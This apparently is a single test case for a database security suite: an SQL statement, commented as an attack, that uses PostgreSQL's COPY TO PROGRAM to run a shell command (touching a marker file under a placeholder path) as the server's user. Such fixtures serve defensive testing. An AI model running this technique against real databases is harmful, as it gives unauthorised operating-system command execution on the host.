-- attack: run an OS command as the server's user
COPY (SELECT 1) TO PROGRAM 'touch @DROP@/copy-program';
